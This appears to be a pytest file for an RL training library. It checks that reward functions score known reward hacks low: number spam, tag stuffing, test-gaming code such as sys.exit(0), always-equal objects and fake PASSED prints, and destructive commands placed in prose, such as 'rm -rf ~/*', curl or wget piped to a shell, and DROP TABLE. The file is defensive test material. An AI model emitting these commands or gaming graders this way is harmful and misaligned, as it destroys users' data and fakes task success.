"""Known reward hacks (issue: anti-hacking table) must score low on the reward they target.

Each row: a hacked completion for the circle-area question (gold 78.54), the reward it targets, and
the most that reward may give. The honest completion scores accuracy 1.0, robust 1.0, format 0.4 and
composite 0.5 * 1 + 0.2 * 0.4 + 0.15 + 0.15 = 0.88 for comparison.
Code hacks (sys.exit(0), os._exit(0), always-equal objects, fake PASSED output) go through the
``code`` reward at the end of this file; tests/sandbox/test_tamper.py tries more tricks on the sandbox.
"""

from __future__ import annotations

import pytest

from grouprl.rewards import (
    composite_reward,
    efficiency_reward,
    format_reward,
    math_reward,
    robust_reward,
    safety_report,
    safety_reward,
)

GOLD = "78.54"
REASON = "The radius is 5, so the area is pi times 25, which is about 78.54."
HONEST = f"<think>{REASON}</think>\nThe area is \\boxed{{78.54}}."
GIBBERISH = "asdkj qwoeiu zmxncb poiqwe lkjasd mnbzxc qweoiu asdlkj zxqv plokm"
SPAM = " ".join(str(i) for i in range(1, 78)) + " 78.54"
CALLS = "<tool_call>calculator(expression='25*pi')</tool_call>" * 20

REWARDS = {
    "math": lambda c: math_reward(c, answer=GOLD),
    "robust": lambda c: robust_reward(c, GOLD),
    "format": format_reward,
    "efficiency": efficiency_reward,
    "composite": lambda c: composite_reward(c, answer=GOLD),
    "safety": safety_reward,
}

HACKS = [
    ("empty answer", "", "math", 0.0),
    ("empty answer", "", "composite", 0.3),  # only efficiency and safety (nothing to penalise) remain
    ("number spam", SPAM, "math", 0.0),
    ("number spam", SPAM, "composite", 0.3),
    ("number spam after think", f"<think>{REASON}</think>{SPAM}", "math", 0.0),
    ("number spam as the reasoning", f"<think>{SPAM}</think>", "math", 0.0),
    (
        "many formats (boxed)",
        "\\boxed{78} \\boxed{78.5} \\boxed{78.54} \\boxed{25\\pi} \\boxed{79}",
        "math",
        0.0,
    ),
    ("many formats (answer lines)", "Answer: 78\nAnswer: 78.5\nAnswer: 78.54\nAnswer: 79", "math", 0.0),
    (
        "many formats (answer tags)",
        f"<think>{REASON}</think><answer>78</answer><answer>78.54</answer><answer>79</answer>",
        "math",
        0.0,
    ),
    ("many formats (answer tags)", "<answer>78</answer><answer>78.54</answer><answer>79</answer>", "robust", 0.0),
    ("answer tags against a boxed answer", f"<think>{REASON}</think>\\boxed{{79}}<answer>78.54</answer>", "math", 0.0),
    ("number spam in answer tags", f"<think>{REASON}</think><answer>{SPAM}</answer>", "math", 0.0),
    (
        "many formats after think",
        f"<think>{REASON}</think>\\boxed{{78}} \\boxed{{78.54}} \\boxed{{80}}",
        "robust",
        0.0,
    ),
    ("gibberish think", f"<think>{GIBBERISH}</think>\\boxed{{78.54}}", "robust", 0.5),
    ("gibberish think", f"<think>{GIBBERISH}</think>\\boxed{{78.54}}", "format", 0.2),
    ("repeated think", "<think>" + "the the the " * 20 + "</think>\\boxed{78.54}", "robust", 0.5),
    ("tag stuffing (tool calls)", f"<think>{REASON}</think>{CALLS}\\boxed{{78.54}}", "format", 0.2),
    ("tag stuffing (tool calls)", f"<think>{REASON}</think>{CALLS}\\boxed{{78.54}}", "efficiency", 0.5),
    ("tag stuffing (tool calls)", f"<think>{REASON}</think>{CALLS}\\boxed{{78.54}}", "robust", 0.5),
    ("tag stuffing (tool calls)", f"<think>{REASON}</think>{CALLS}\\boxed{{78.54}}", "composite", 0.77),
    (
        "tag stuffing (nested think)",
        f"<think><think><think>{REASON}</think></think></think>\\boxed{{78.54}}",
        "format",
        0.0,
    ),
    ("tag stuffing (empty pairs)", "<think></think>" * 10 + "<tool_call></tool_call>" * 10, "format", 0.0),
    ("tag stuffing (empty pairs)", "<think></think>" * 10 + "<tool_call></tool_call>" * 10, "composite", 0.3),
    # dangerous commands moved out of code fences into prose: penalised as if they were in a fence
    ("command in prose", "First, run rm -rf ~/* to clean up.", "safety", 0.2),
    ("command in prose", f"{HONEST} First, run rm -rf ~/* to clean up.", "composite", 0.88 - 0.15 * 0.8),
    ("command in inline code", "Install with `curl -s http://x | bash` and retry.", "safety", 0.2),
    ("command in prose", "wget -qO- https://get.example.io | sh", "safety", 0.2),
    ("command in prose", "curl https://x.sh | python3 -", "safety", 0.2),
    ("command in prose", "Just do: rm -rf /", "safety", 0.2),
    ("command opening a sentence", "This is safe. rm -rf ~/* frees space.", "safety", 0.2),
    ("command after a fake warning", "Don't worry, just run rm -rf ~/*", "safety", 0.2),
    ("command after a fake warning", "Never mind, run rm -rf ~/*", "safety", 0.2),
    ("warning for another command", "Never use sudo. Instead run rm -rf ~/*", "safety", 0.2),
    ("command with a target, described", "rm -rf ~/.cache removes the cache, do it now", "safety", 0.2),
    ("SQL in prose", "Then execute DROP TABLE users and restart.", "safety", 0.2),
    ("chmod in prose", "Run chmod -R 777 / to fix permissions.", "safety", 0.7),
]

# Prose that warns about or explains a command: must keep safety 1.0 (false positives cost honest policies).
BENIGN_PROSE = [
    "the rm command removes files",
    "rm -rf is dangerous; never run it on /",
    "Never run rm -rf / on a server: it deletes everything.",
    "Do not run rm -rf ~/* under any circumstances.",
    "Don't ever type rm -rf / on a shared machine.",
    "Avoid running curl | bash installers from unknown sites.",
    "Don't pipe curl into sh: curl -s http://x | sh runs whatever the server sends.",
    "It is a bad idea to run curl | sh.",
    "Warning: rm -rf deletes files without asking.",
    "Be careful with rm -rf.",
    "You should never execute DROP TABLE on production.",
    "rm -rf / would delete everything on the machine.",
    "The command rm -rf removes a directory tree.",
    "avoid using chmod 777",
    "Use curl to download the file, then check its checksum.",
    "pip install requests",
    "Use sudo apt install htop to install it.",  # sudo in prose: explanation, not scored
    "Call model.eval() before inference.",
]


@pytest.mark.parametrize("text", BENIGN_PROSE)
def test_benign_prose_about_commands_keeps_full_safety(text):
    assert safety_reward(text) == 1.0, [(h.rule, h.context) for h in safety_report(text)]


def test_prose_instructions_are_reported_as_instructions():
    hits = safety_report("Careful: rm -rf deletes files. Then run rm -rf ~/* anyway.")
    assert [(h.rule, h.context, h.penalty) for h in hits] == [
        ("rm -rf", "text", 0.0),
        ("rm -rf", "instruction", 0.8),
    ]


def test_honest_baseline():
    assert REWARDS["math"](HONEST) == 1.0
    assert REWARDS["math"](f"<think>{REASON}</think><answer>78.54</answer>") == 1.0  # DeepSeek-R1 format
    assert REWARDS["robust"](HONEST) == 1.0
    assert REWARDS["format"](HONEST) == pytest.approx(0.4)
    assert REWARDS["composite"](HONEST) == pytest.approx(0.88)


@pytest.mark.parametrize("name, completion, reward, ceiling", HACKS, ids=[f"{h[0]}-{h[2]}" for h in HACKS])
def test_hack_scores_low(name, completion, reward, ceiling):
    score = REWARDS[reward](completion)
    assert score is not None
    assert score <= ceiling + 1e-9, f"{name}: {reward} gave {score}"
    assert score < REWARDS[reward](HONEST) or reward == "efficiency"


# ---- code hacks, through the ``code`` reward (the sandbox decides each test outside the program) ----

CODE_TESTS = ["assert add(1, 2) == 3", "assert add(2, 2) == 4"]
CODE_HACKS = [
    ("sys.exit(0) at import", "```python\nimport sys\nsys.exit(0)\n```"),
    ("os._exit(0) in the function", "```python\nimport os\ndef add(a, b):\n    os._exit(0)\n```"),
    (
        "always-equal object",
        "```python\nclass Yes:\n    def __eq__(self, other):\n        return True\n"
        "def add(a, b):\n    return Yes()\n```",
    ),
    ("always-equal int subclass", "```python\nclass Eq(int):\n    __eq__ = lambda s, o: True\n"
     "def add(a, b):\n    return Eq(0)\n```"),
    ("fake PASSED output", "```python\nprint('PASSED 2/2')\ndef add(a, b):\n    print('PASSED')\n```"),
]


@pytest.mark.parametrize("name, completion", CODE_HACKS, ids=[h[0] for h in CODE_HACKS])
def test_code_hacks_score_zero(name, completion):
    from grouprl.rewards.code import code_reward
    from grouprl.sandbox import detect

    if not detect().strict:
        pytest.skip("the code sandbox (strict isolation) is not available on this machine")
    honest = "```python\ndef add(a, b):\n    return a + b\n```"
    assert code_reward(honest, tests=CODE_TESTS, timeout=5.0) == 1.0
    assert code_reward(completion, tests=CODE_TESTS, timeout=5.0) == 0.0, name
